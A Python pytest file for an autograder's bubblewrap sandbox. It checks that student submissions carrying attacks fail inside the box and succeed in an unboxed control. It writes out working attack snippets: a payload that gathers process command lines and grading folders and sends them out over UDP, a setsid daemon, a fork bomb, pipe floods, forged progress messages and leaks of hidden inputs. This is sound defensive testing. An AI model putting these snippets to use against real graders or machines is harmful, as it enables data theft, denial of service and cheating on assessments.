"""The grading box (autograder.grader.box): attacks that worked without it, tried with it and without it.

Each attack is one submission of lesson 01 whose first solution cell does something a determined
student did: read every process's command line and every grading folder and send them out over UDP,
start a ``setsid`` daemon that outlives grading, or load the reference from a second copy of the
project elsewhere on the machine. Each test grades the same submission twice: in the box (the attack
must fail) and without it (the control: the attack works there, so the test can tell the two apart).
Without ``bwrap`` these tests skip, except in CI (``CI`` set), where they fail: ``.ci/run`` installs it.
"""
import json
import os
import shutil
import signal
import socket
import uuid
from pathlib import Path

import pytest

from autograder.exercises import exercises_for
from autograder.grader.box import box_problem
from autograder.grader.feedback import render_feedback
from autograder.grader.grade import UNBOXED, GradeConfig, _lock_out, _prepare, grade_submissions
from autograder.paths import PROJECT_ROOT

LESSON = "01_video_tensors"
pytestmark = pytest.mark.xdist_group("box")  # its own worker queue: the demo class (test_grade.py) runs beside it


@pytest.fixture(autouse=True)
def _needs_the_box():
    problem = box_problem()
    if problem is not None:
        if os.environ.get("CI"):
            pytest.fail(f"{problem}; in CI this is a failure (.ci/run installs bubblewrap)", pytrace=False)
        pytest.skip(f"{problem} (outside CI this skips; set CI=1 to make it fail)")


def _source() -> dict:
    return json.loads((PROJECT_ROOT / "solutions" / LESSON / f"{LESSON}.ipynb").read_text())


def _with_first_cell(code: str) -> dict:
    """The instructor's solution with ``code`` run at the top of the first solution cell."""
    nb = _source()
    first = exercises_for(LESSON)[0].name
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == first)
    body = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    cell["source"] = code + "\n" + body
    return nb


def _grade(tmp_path: Path, nb: dict, *, box: bool, student: str = "attacker") -> dict:
    path = tmp_path / "submitted" / student / LESSON / f"{LESSON}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb))
    results = grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=tmp_path / "out", seed=99,
                                            box=box, assignments=[LESSON]), progress=False)
    return next(r for r in results if r["student_id"] == student)


def _listener() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.5)
    return sock


def _received(sock: socket.socket) -> bytes:
    data = b""
    try:
        while True:
            data += sock.recv(65536)
    except (TimeoutError, socket.timeout):
        return data


EXFILTRATE = """
import os as _os, socket as _socket
_seen = []
for _pid in _os.listdir('/proc'):
    try:
        _seen.append(open(f'/proc/{{_pid}}/cmdline', 'rb').read().replace(b'\\0', b' ')[:200])
    except Exception:
        pass
try:
    _seen += [_n.encode() for _n in _os.listdir(_os.path.dirname(_os.getcwd()))]
except Exception:
    pass
try:
    _s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _s.sendto(b'LEAK ' + b'|'.join(_seen)[:60000], ('127.0.0.1', {port}))
except Exception:
    pass
"""


@pytest.mark.parametrize("box", [True, False], ids=["boxed", "unboxed-control"])
def test_processes_and_grading_folders_cannot_be_seen_or_sent_out(tmp_path, box):
    """Check that in the box a submission sees no other process and cannot reach 127.0.0.1 of the host."""
    sock = _listener()
    try:
        rec = _grade(tmp_path, _with_first_cell(EXFILTRATE.format(port=sock.getsockname()[1])), box=box)
        leaked = _received(sock)
    finally:
        sock.close()
    assert all(r["score"] == r["max_score"] for r in rec["exercises"]), rec  # the attack costs nothing: it is not graded
    if box:
        assert leaked == b""
    else:  # the control: without the box the grader's processes and folders go out over UDP
        assert leaked.startswith(b"LEAK ") and b"autograder.grader._child" in leaked


def _processes_with(marker: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except (OSError, ValueError):
            continue
    return found


class _NoGroups:
    """Stands in for CgroupLimits where a test needs a child without control groups."""

    problem = "control groups turned off by the test"

    def __init__(self, **kwargs):
        pass

    def wrap(self, argv):  # noqa: ANN001, ANN201
        return argv

    def close(self):  # noqa: ANN201
        pass


@pytest.mark.parametrize("box, groups", [(True, True), (True, False), (False, True), (False, False)],
                         ids=["boxed", "boxed-no-cgroups", "unboxed-cgroups", "unboxed-no-cgroups-control"])
def test_a_setsid_daemon_does_not_outlive_grading(tmp_path, monkeypatch, box, groups):
    """Check that a process started in its own session dies with the box (the kernel kills the PID namespace)
    and, without the box, with the child's control group; with neither (the control) it survives."""
    from autograder.grader import grade

    if not groups:
        monkeypatch.setattr(grade, "CgroupLimits", _NoGroups)
    elif not box:
        probe = grade.CgroupLimits(memory_mb=64)
        probe.close()
        if probe.problem:
            pytest.skip(probe.problem)  # no writable cgroup v1 hierarchies on this machine
    seconds = f"{300 + uuid.uuid4().int % 1000}.{uuid.uuid4().int % 10**6:06d}"  # a unique command line
    code = f"import subprocess as _sp\n_sp.Popen(['sleep', '{seconds}'], start_new_session=True)\n"
    try:
        rec = _grade(tmp_path, _with_first_cell(code), box=box)
        assert all(r["score"] == r["max_score"] for r in rec["exercises"]), rec
        alive = _processes_with(seconds)
        if box or groups:
            assert alive == [], "a daemon started by the submission outlived grading"
        else:  # the control: killpg misses a new session
            assert alive, "the control should leave the daemon running (the test cannot tell otherwise)"
    finally:
        for pid in _processes_with(seconds):
            os.kill(pid, signal.SIGKILL)


def test_a_second_copy_of_the_project_is_not_in_the_box(tmp_path):
    """Check that a copy of the reference elsewhere on the machine is invisible in the box, and usable without it."""
    ex = exercises_for(LESSON)[0]
    copy = tmp_path / "elsewhere" / "layout.py"
    copy.parent.mkdir()
    shutil.copy(PROJECT_ROOT / "course" / "video" / "layout.py", copy)
    nb = _source()
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ex.name)
    cell["source"] = (f"_ns = {{}}\nexec(open({str(copy)!r}).read(), _ns)\n{ex.name} = _ns[{ex.name!r}]\n")
    boxed = _grade(tmp_path / "boxed", nb, box=True)
    assert boxed["exercises"][0]["score"] == 0
    assert "No such file" in json.dumps(boxed["cell_errors"])
    unboxed = _grade(tmp_path / "unboxed", nb, box=False)  # the control: without the box the copy is read
    assert unboxed["exercises"][0]["score"] == unboxed["exercises"][0]["max_score"]


def test_the_reference_module_is_not_readable_in_the_box(tmp_path):
    """Check that the graded exercise's reference module cannot be read in the box (/dev/null there, and Landlock)."""
    ex = exercises_for(LESSON)[0]
    origin = PROJECT_ROOT / "course" / "video" / "layout.py"
    nb = _with_first_cell(f"try:\n    _text = open({str(origin)!r}).read()\nexcept OSError:\n    _text = ''\n"
                          f"assert 'def {ex.name}' not in _text, 'the reference was read'\n")
    rec = _grade(tmp_path, nb, box=True)
    assert rec["cell_errors"] == [] and rec["exercises"][0]["score"] == rec["exercises"][0]["max_score"], rec
    assert ex.reference_module == "course.video.layout"


def test_feedback_says_unboxed_and_never_shows_sandbox_internals(tmp_path):
    """Check that the student's page says how the submission was graded, not which user or mechanism ran it."""
    boxed = _grade(tmp_path / "a", _source(), box=True, student="s1")
    unboxed = _grade(tmp_path / "b", _source(), box=False, student="s2")
    assert boxed["sandbox_notes"], "the instructor's record keeps the sandbox notes"
    for rec in (boxed, unboxed):
        page = render_feedback(rec)
        assert all(note not in page for note in rec["sandbox_notes"])
        assert "root" not in page
    assert UNBOXED not in render_feedback(boxed) and UNBOXED in render_feedback(unboxed)


def test_a_second_grading_run_on_the_same_output_is_refused(tmp_path):
    """Check that two graders cannot write one output folder at once (the second is refused with a message)."""
    out = tmp_path / "out"
    out.mkdir()
    held = _lock_out(out)
    try:
        (tmp_path / "submitted").mkdir()
        with pytest.raises(RuntimeError, match="another grading run"):
            grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=out), progress=False)
    finally:
        for f in held:
            f.close()
    grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=out), progress=False)  # free again


def test_hidden_cases_are_readable_by_the_grader_alone(tmp_path):
    """Check that the file of hidden inputs is mode 600 (no other user reads it while grading runs)."""
    cfg = GradeConfig(submissions=tmp_path, out=tmp_path / "out", seed=5)
    prep = _prepare(cfg, LESSON, tmp_path)
    assert prep.inputs_file.stat().st_mode & 0o077 == 0
    assert str(PROJECT_ROOT / "course" / "video" / "layout.py") in prep.hidden_files


def test_grading_refuses_without_the_box_unless_told(tmp_path, monkeypatch):
    """Check that official grading fails closed where the box cannot be built, naming the fix."""
    from autograder.grader import grade

    monkeypatch.setattr(grade, "box_problem", lambda: "bubblewrap (bwrap) is not installed")
    (tmp_path / "submitted").mkdir()
    with pytest.raises(RuntimeError, match="--no-box"):
        grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=tmp_path / "out"), progress=False)
    grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=tmp_path / "out", box=False), progress=False)


def test_forged_progress_does_not_restart_an_exercise_clock(tmp_path):
    """Check that a function which keeps sending "I moved on" still times out at its exercise's limit.

    The child reports where it is over the grader's pipe, which student code can write to as well; a
    student who reported states back and forth used to restart the per-exercise clock and got full
    marks for a 25 s sleep against a 10 s limit.
    """
    ex = exercises_for(LESSON)[0]
    nb = _source()
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ex.name)
    body = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    cell["source"] = body + f"""
import sys as _sys, time as _time
from autograder.grader.transport import ChannelWriter as _Writer
_honest, _channel = {ex.name}, _Writer(int(_sys.argv[-1]))
def {ex.name}(*args, **kwargs):
    for _ in range(8):  # 8 x 0.3 x limit = 2.4 x the limit, the clock 'restarted' every 0.3 x limit
        for _state in (b'cell x', b'exercise 0'):
            _channel.send(b'PROG', _state)
            _time.sleep(0.05)
        _time.sleep({0.3 * ex.timeout})
    return _honest(*args, **kwargs)
"""
    rec = _grade(tmp_path, nb, box=True)
    first = rec["exercises"][0]
    assert first["score"] == 0 and first["status"] == "timeout", first
    assert all(r["score"] == r["max_score"] for r in rec["exercises"][1:]), rec


@pytest.mark.parametrize("payload", ["flood", "fifo"])
def test_a_flooding_or_blocking_child_costs_its_own_exercise_only(tmp_path, payload):
    """Check that a child that floods the grader's pipe, or leaves a FIFO where files were, is stopped alone.

    The grader reads the pipe without blocking and with a size cap, and reads no file the child made.
    """
    ex = exercises_for(LESSON)[0]
    nb = _source()
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ex.name)
    body = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    attack = {
        "flood": "import sys as _s, os as _o\n_b = b'x' * (1 << 20)\nwhile True:\n    _o.write(int(_s.argv[-1]), _b)\n",
        "fifo": "import os as _o\nfor _n in ('progress', 'cell_errors.pt', 'sandbox_notes.json'):\n"
                "    _o.mkfifo(_n)\nreturn None\n",
    }[payload]
    cell["source"] = body + f"\n_honest = {ex.name}\ndef {ex.name}(*args, **kwargs):\n" + \
        "".join("    " + line + "\n" for line in attack.splitlines())
    rec = _grade(tmp_path, nb, box=True)
    assert rec["exercises"][0]["score"] == 0
    assert all(r["score"] == r["max_score"] for r in rec["exercises"][1:]), rec


def test_exercise_specs_are_not_importable_while_graded(tmp_path):
    """Check that a submission cannot borrow a spec module's helpers (a correct MHA, a conv in another layout).

    The specs build their known-wrong solutions from right pieces; in the box every spec module is
    /dev/null, so importing one fails and the exercise that leaned on it scores 0.
    """
    ex = exercises_for(LESSON)[0]
    nb = _source()
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ex.name)
    cell["source"] = ("from autograder.exercises.video_transformers import _mha\n"
                      f"from course.video.layout import {ex.name}\n")
    rec = _grade(tmp_path, nb, box=True)
    assert rec["exercises"][0]["score"] == 0
    assert "video_transformers" in json.dumps(rec["cell_errors"]), rec["cell_errors"]
    prep = _prepare(GradeConfig(submissions=tmp_path, out=tmp_path / "o"), LESSON, tmp_path)
    specs = {Path(p).name for p in prep.hidden_files if "/autograder/exercises/" in p}
    assert {"video_transformers.py", "conv3d.py", "video_tensors.py"} <= specs and "__init__.py" not in specs


def test_review_lists_bypass_tools_without_changing_scores(tmp_path):
    """Check that a cell using a bypass tool is listed in review.csv for the instructor, its score untouched."""
    import csv

    ex = exercises_for(LESSON)[0]
    rec = _grade(tmp_path, _with_first_cell("import threading as _threading\n"), box=True)
    assert all(r["score"] == r["max_score"] for r in rec["exercises"])
    with open(tmp_path / "out" / "review.csv") as f:
        rows = [r for r in csv.DictReader(f) if "copied" not in r["reason"]]  # the demo is the instructor's code
    assert [(r["student_id"], r["exercise_id"], r["line"]) for r in rows] == [("attacker", ex.name, "1")]
    assert "thread" in rows[0]["reason"]
    assert rows[0]["reason"] not in render_feedback(rec)  # the instructor's list, not the student's page


def test_a_full_tmp_costs_the_cell_not_the_run(tmp_path):
    """Check that a submission filling its private /tmp (256 MB) gets an error in its own cell, nothing more."""
    code = ("import os as _os\ntry:\n    for _i in range(8):\n        with open(f'/tmp/fill{_i}', 'wb') as _f:\n"
            "            _f.write(b'x' * (60 << 20))\nexcept OSError as _e:\n    _full = _e\n"
            "assert _full.errno in (28, 27), _full\n")  # ENOSPC (or EFBIG)
    rec = _grade(tmp_path, _with_first_cell(code), box=True)
    assert rec["cell_errors"] == [] and all(r["score"] == r["max_score"] for r in rec["exercises"]), rec


def _burn(stop):  # noqa: ANN001, ANN202 - a CPU-bound loop for the load test
    while not stop.is_set():
        sum(i * i for i in range(10_000))


def _churn(folder, stop):  # noqa: ANN001, ANN202 - files that appear and vanish, as other jobs' temp files do
    i = 0
    while not stop.is_set():
        path = Path(folder) / f"churn-{i % 200}"
        path.write_bytes(b"x" * 4096)
        path.unlink()
        i += 1


def test_grades_do_not_depend_on_machine_load(tmp_path):
    """Check that the demo class of one lesson gets the same right scores while the CPU is saturated and
    temporary files appear and vanish under /tmp (which once made honest students' boxes fail to start)."""
    import multiprocessing
    import tempfile as _tempfile

    from autograder.builder.demo import write_demo_class

    expected = write_demo_class(tmp_path / "submitted", [LESSON], out=tmp_path / "out")
    ctx = multiprocessing.get_context("fork")
    stop = ctx.Event()
    churn_dir = _tempfile.mkdtemp(prefix="churn-")
    workers = [ctx.Process(target=_burn, args=(stop,)) for _ in range(os.cpu_count() or 2)]
    workers.append(ctx.Process(target=_churn, args=(churn_dir, stop)))
    for w in workers:
        w.start()
    try:
        results = grade_submissions(GradeConfig(submissions=tmp_path / "submitted", out=tmp_path / "out", seed=3,
                                                jobs=2), progress=False)
    finally:
        stop.set()
        for w in workers:
            w.join(10)
        shutil.rmtree(churn_dir, ignore_errors=True)
    for rec in results:
        passed = {r["exercise_id"] for r in rec["exercises"] if r["status"] == "passed"}
        assert passed == expected[rec["student_id"]][LESSON], rec
        assert not any("failed before running" in r["reason"] for r in rec["exercises"]), rec


def test_feedback_carries_no_text_of_the_students_code(tmp_path):
    """Check that nothing student code prints, raises or names reaches the feedback page.

    The child must read the hidden cases to call the function on them, so any text of its own in the
    feedback (a cell's exception message, an exception's message or class name, a forged report) could
    carry hidden inputs out to the class; the page shows the grader's own words only.
    """
    ex = exercises_for(LESSON)[1]
    nb = _with_first_cell(
        "import sys as _sys, torch as _torch\n"
        "_cases = _torch.load(_sys.argv[1] + '/inputs.pt', weights_only=True)\n"
        "_secret = 'SECRET' + repr(_cases[1][-1])[:40]\n"
        f"class Leak_SECRET_{ex.name}(ValueError):\n    pass\n"
        f"def {ex.name}(*args, **kwargs):\n    raise Leak_SECRET_{ex.name}(_secret)\n"
        "print(_secret)\n"
        "raise RuntimeError(_secret)\n")
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ex.name)
    cell["source"] = "pass\n"  # the exercise keeps the leaking definition from the first cell
    rec = _grade(tmp_path, nb, box=True)
    assert rec["exercises"][1]["score"] == 0
    page = render_feedback(rec)
    assert "SECRET" not in page and "Leak" not in page
    assert "RuntimeError at line" in page and "raised ValueError" in page
    assert "SECRET" in json.dumps(rec["cell_errors"])  # the instructor's record keeps the detail


@pytest.mark.parametrize("report", ["exercise -1", "exercise 99", "start", "done"])
def test_forged_progress_reports_cannot_hang_or_blame_the_machine(tmp_path, report):
    """Check that a cell sending a progress report out of order, then dying, costs its own notebook only.

    "exercise -1" once made the grader restart the child forever (no grades for anyone), "exercise 99"
    raised inside the grader, and "start" (after a fake bwrap message on stderr) passed for a failure of
    the machine, never cached and retried on every run.
    """
    code = ("import os as _os, sys as _sys\nfrom autograder.grader.transport import ChannelWriter as _W\n"
            "_os.write(2, b\"bwrap: Can't mount proc on /newroot/proc\\n\")\n"
            f"_W(int(_sys.argv[-1])).send(b'PROG', {report.encode()!r})\n_os._exit(1)\n")
    rec = _grade(tmp_path, _with_first_cell(code), box=True)
    assert all(r["score"] == 0 and r["status"] in ("crash", "failed") for r in rec["exercises"]), rec
    assert not any("failed before running" in r["reason"] or "grader error" in r["reason"] for r in rec["exercises"])
    assert (tmp_path / "out" / "results" / "attacker" / f"{LESSON}.json").exists()  # a grade, cached as usual


def test_printing_without_end_fills_no_disk(tmp_path):
    """Check that what the child prints goes through a pipe (first 64 KB kept), not to a file on the host."""
    code = ("import os as _os\n_b = b'x' * (1 << 20)\nfor _i in range(300):\n    _os.write(1, _b)\n"
            "    _os.write(2, _b)\n")
    sizes = []

    def watch():  # noqa: ANN202 - the largest file under the grading folders while the run goes on
        import glob
        import threading
        import time as _time

        stop = threading.Event()

        def loop():  # noqa: ANN202
            while not stop.is_set():
                sizes.extend(os.path.getsize(p) for p in glob.glob("/tmp/grading-*/**/*", recursive=True)
                             if os.path.isfile(p))
                _time.sleep(0.2)

        thread = threading.Thread(target=loop)
        thread.start()
        return stop, thread

    stop, thread = watch()
    try:
        rec = _grade(tmp_path, _with_first_cell(code), box=True)
    finally:
        stop.set()
        thread.join()
    assert all(r["score"] == r["max_score"] for r in rec["exercises"]), rec
    assert max(sizes, default=0) < 10 * 2**20, f"a file of {max(sizes)} bytes under /tmp/grading-*"


def test_forks_are_counted_and_nothing_is_left_behind(tmp_path):
    """Check that a child's control group caps its tasks (a fork bomb stops early) and is removed after grading.

    In the box the child is root of its own user namespace, which the kernel exempts from RLIMIT_NPROC;
    the pids control group counts every task of the child, threads included.
    """
    from autograder.grader.box import CgroupLimits

    probe = CgroupLimits(memory_mb=512)
    if probe.problem:  # a machine whose kernel gives no writable cgroup v1 hierarchies: nothing to test
        pytest.skip(probe.problem)
    probe.close()
    code = ("import os as _os, time as _time\n_kids = []\nfor _ in range(200):\n    try:\n"
            "        _pid = _os.fork()\n    except OSError:\n        break\n    if _pid == 0:\n"
            "        _time.sleep(60)\n        _os._exit(0)\n    _kids.append(_pid)\n"
            "assert len(_kids) < 100, f'{len(_kids)} forks'\n")
    rec = _grade(tmp_path, _with_first_cell(code), box=True)
    assert rec["cell_errors"] == [] and all(r["score"] == r["max_score"] for r in rec["exercises"]), rec
    mine = dict(line.split(":", 2)[1:] for line in Path("/proc/self/cgroup").read_text().splitlines())
    for controller in ("pids", "memory"):
        folder = Path("/sys/fs/cgroup") / controller / mine[controller].lstrip("/")
        left = list(folder.glob(f"grading-{os.getpid()}-*"))  # this process's groups (other workers grade too)
        assert not left, f"control groups left: {left}"


def test_control_groups_hold_the_wrapped_command():
    """Check that a wrapped command runs inside the new groups, with their limits, and that close() removes them."""
    import subprocess

    from autograder.grader.box import CgroupLimits

    groups = CgroupLimits(memory_mb=300, max_pids=17)
    if groups.problem:  # a machine whose kernel gives no writable cgroup v1 hierarchies: nothing to test
        pytest.skip(groups.problem)
    try:
        out = subprocess.run(groups.wrap(["cat", "/proc/self/cgroup"]), capture_output=True, text=True, check=True)
        for group in groups.paths:
            assert f":{group.parent.name}/{group.name}\n" in out.stdout or group.name in out.stdout
        pids = next(p for p in groups.paths if "pids" in p.parts)
        memory = next(p for p in groups.paths if "memory" in p.parts)
        assert (pids / "pids.max").read_text().strip() == "17"
        assert int((memory / "memory.limit_in_bytes").read_text()) == 300 * 2**20
    finally:
        paths = list(groups.paths)
        groups.close()
    assert not any(p.exists() for p in paths)


def test_folders_under_tmp_stay_visible_above_the_private_tmp(tmp_path, monkeypatch):
    """Check that a project or environment living under /tmp (a CI clone, say) is not hidden by the box's /tmp.

    The private /tmp is mounted first and the read-only binds on top of it; mounted the other way round,
    every child of a project under /tmp failed to import the grader.
    """
    import subprocess
    import sys

    from autograder.grader import box

    package = tmp_path / "pkg"
    package.mkdir()
    (package / "marker.txt").write_text("here")
    monkeypatch.setattr(box, "package_roots", lambda: [package])
    cmd = box.box_command([sys.executable, "-I", "-c", f"print(open({str(package / 'marker.txt')!r}).read())"],
                          workdir=None, hidden=())
    assert str(package).startswith("/tmp/")
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and done.stdout.strip() == "here", done.stderr[-500:]


def test_the_course_library_is_not_in_the_box(tmp_path):
    """Check that no course module (a reference, or a near-copy of one elsewhere in the library) is importable."""
    nb = _with_first_cell("from course.nn.attention_cost import attention_scores\n")
    rec = _grade(tmp_path, nb, box=True)
    assert rec["cell_errors"] and "ModuleNotFoundError" in rec["cell_errors"][0]["error"], rec["cell_errors"]


def test_cell_errors_sent_by_an_exercise_are_ignored(tmp_path):
    """Check that a cell-errors message student code sends while its function is called (after the child
    sent the real one) changes nothing in the record or the page."""
    ex = exercises_for(LESSON)[0]
    nb = _source()
    cell = next(c for c in nb["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == ex.name)
    body = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    cell["source"] = body + f"""
import sys as _sys
from autograder.grader import transport as _t
_honest = {ex.name}
def {ex.name}(*args, **kwargs):
    _t.ChannelWriter(int(_sys.argv[-1])).send(b'CERR', _t.dumps(_t.encode(
        [{{'grade_id': {ex.name!r}, 'error': 'ValueError: ' + repr(args)[:80] + ' (line 1 of <cell x>)'}}])))
    return _honest(*args, **kwargs)
"""
    rec = _grade(tmp_path, nb, box=True)
    assert rec["cell_errors"] == [] and "ValueError" not in render_feedback(rec)
    assert all(r["score"] == r["max_score"] for r in rec["exercises"]), rec
